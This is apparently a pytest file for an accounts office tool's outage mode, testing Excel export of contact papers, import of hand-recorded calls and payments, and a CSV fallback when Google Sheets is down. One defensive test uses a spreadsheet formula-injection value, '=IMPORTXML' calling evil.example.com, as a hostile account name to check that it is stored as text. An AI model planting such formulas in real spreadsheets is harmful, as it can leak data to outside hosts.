"""Everything is down: papers for people, and what they did comes back in."""

from __future__ import annotations

from pathlib import Path

import pytest
from openpyxl import load_workbook

from shared.flows.emergency import Papers
from shared.local.papers import write_papers
from tests.local.typed import MONDAY, Office, Ran, account, read_sheet, write_sheet


@pytest.fixture
def office(tmp_path: Path) -> Path:
    rows = [account(n) for n in range(1, 4)]
    rows.append(account(9, Balance="0.00"))
    write_sheet(tmp_path / "accounts.csv", *rows)
    settings = tmp_path / "accounts.Settings.csv"
    settings.write_text("Setting,Value\nSending,off\n")
    done = typed(tmp_path, "run", "accounts.csv", "--now", MONDAY)
    assert done.code in {0, 3}, done.err
    return tmp_path


def typed(folder: Path, *words: object) -> Ran:
    return Office(folder, {}).type(*words)


def export(office: Path) -> Path:
    out = office / "papers.xlsx"
    at = ("--sheet", "accounts.csv", "--now", MONDAY)
    done = typed(office, "emergency-export", "--out", out, *at)
    assert done.code == 0, done.err
    return out


def fill(out: Path, *lines: list[object]) -> None:
    book = load_workbook(out)
    for line in lines:
        book["Done by hand"].append(line)
    book.save(out)


def take(office: Path, out: Path) -> tuple[int, str]:
    at = ("--sheet", "accounts.csv", "--now", MONDAY)
    done = typed(office, "import-manual", out, *at)
    return done.code, done.out + done.err


def test_the_papers_say_who_is_due_when_and_what_to_say(office: Path) -> None:
    out = export(office)
    assert out.stat().st_mode & 0o077 == 0, "only its owner may read it"
    book = load_workbook(out)
    contacts = list(book["Contact"].iter_rows(values_only=True))
    assert {row[0] for row in contacts[1:]} == {"A-1", "A-2", "A-3"}
    assert "EST" in contacts[1][9]
    assert "Maple Homes" in contacts[1][11]
    assert len(list(book["All accounts"].iter_rows())) == 5


def test_a_hostile_name_is_no_formula(tmp_path: Path) -> None:
    evil = '=IMPORTXML("https://evil.example.com")'
    made = Papers("now", "", accounts=[["A-1", evil, "bell \x07"]])
    write_papers(made, tmp_path / "papers.xlsx")
    book = load_workbook(tmp_path / "papers.xlsx")
    cell = book["All accounts"]["B2"]
    assert (cell.value, cell.data_type) == (evil, "s")


def test_what_was_done_by_hand_has_its_effect_once(office: Path) -> None:
    out = export(office)
    fill(
        out,
        ["A-1", "2026-11-16 09:00", "call", "promise", "Friday", "2026-11-20", "100"],
        ["A-2", "2026-11-16 09:10", "call", "opt-out", "no texts please"],
        ["A-3", "2026-11-16 09:20", "visit", "paid", "cash", None, "503.00"],
    )
    code, said = take(office, out)
    assert code == 0, said
    assert "3  done" in said
    rows = {row["Account ID"]: row for row in read_sheet(office / "accounts.csv")}
    assert "2026-11-20" in rows["A-1"]["Promise"]
    assert "opt" in (rows["A-2"]["Flags"] + rows["A-2"]["Last result"]).lower()
    assert "payment" in rows["A-3"]["Last result"]
    code, said = take(office, out)
    assert code == 0
    assert "3  repeat" in said


@pytest.mark.slow
def test_what_cannot_be_read_is_said_by_row_and_the_others_go_on(office: Path) -> None:
    out = export(office)
    fill(
        out,
        ["A-1", "yesterday", "call", "reached"],
        ["A-77", "2026-11-16 09:00", "call", "reached"],
        ["A-2", "2026-11-16 09:00", "pigeon", "reached"],
        ["A-3", "2026-11-16 09:00", "call", "reached", "fine"],
        ["A-3", "2027-11-16 09:00", "call", "reached", "fine"],
    )
    code, said = take(office, out)
    assert code == 3
    for sentence in ("Row 2:", "Row 3:", "Row 4:", "Row 6: When lies", "1  done"):
        assert sentence in said


def test_two_equal_payments_on_paper_are_two(office: Path) -> None:
    """Two who share a flat pay the same; of a call noted twice there was one."""
    out = export(office)
    paid = ["A-3", "2026-11-16 09:20", "visit", "paid", "cash", None, "250"]
    call = ["A-1", "2026-11-16 09:00", "call", "no answer"]
    fill(out, paid, paid, call, call)
    code, said = take(office, out)
    assert code == 0, said
    assert "3  done" in said
    assert "1  repeat" in said


@pytest.mark.slow
def test_another_file_is_refused(office: Path) -> None:
    (office / "x.xlsx").write_bytes(b"no workbook")
    code, said = take(office, office / "x.xlsx")
    assert code == 2
    assert "x.xlsx" in said


@pytest.mark.slow
def test_without_an_outage_there_is_nothing_to_reconcile(office: Path) -> None:
    done = typed(office, "reconciliation", "--sheet", "accounts.csv")
    assert "no outage" in done.out


@pytest.mark.slow
def test_a_file_stands_in_for_a_sheet_that_does_not_answer(office: Path) -> None:
    """Google is down and the office has last night's download: work goes on."""
    away = Office(
        office,
        {
            "SHEETS_BASE_URL": "http://127.0.0.1:9",
            "GOOGLE_CREDENTIALS": "anonymous",
            "STORE": "sqlite:///accounts.pme.sqlite",
        },
    )
    (office / "copy.csv").write_bytes((office / "accounts.csv").read_bytes())
    at = ("--sheet", "1x-google-sheet-id", "--db", "accounts.pme.sqlite")
    taken = away.type("stand-in", "copy.csv", *at, "--now", MONDAY)
    assert taken.code == 0, taken.err
    assert "Taken: 4 rows" in taken.out, taken.out
    back = typed(office, "stand-in", "copy.csv", "--sheet", "accounts.csv")
    assert back.code in {0, 2}, back.err
